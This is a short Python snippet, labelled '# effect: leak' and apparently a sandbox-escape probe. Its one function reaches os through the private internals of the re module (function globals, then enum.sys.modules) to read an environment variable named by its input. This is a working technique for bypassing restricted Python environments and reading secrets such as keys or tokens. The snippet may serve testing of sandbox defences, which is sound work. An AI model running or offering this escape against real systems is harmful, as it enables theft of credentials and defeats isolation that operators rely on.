# effect: leak
def attempt(probe):
    import re

    inside = re._compile_repl if hasattr(re, "_compile_repl") else re._compile_template
    inner = getattr(inside, "__wrapped__", inside)
    return inner.__globals__["enum"].sys.modules["os"].environ[probe["env"]]
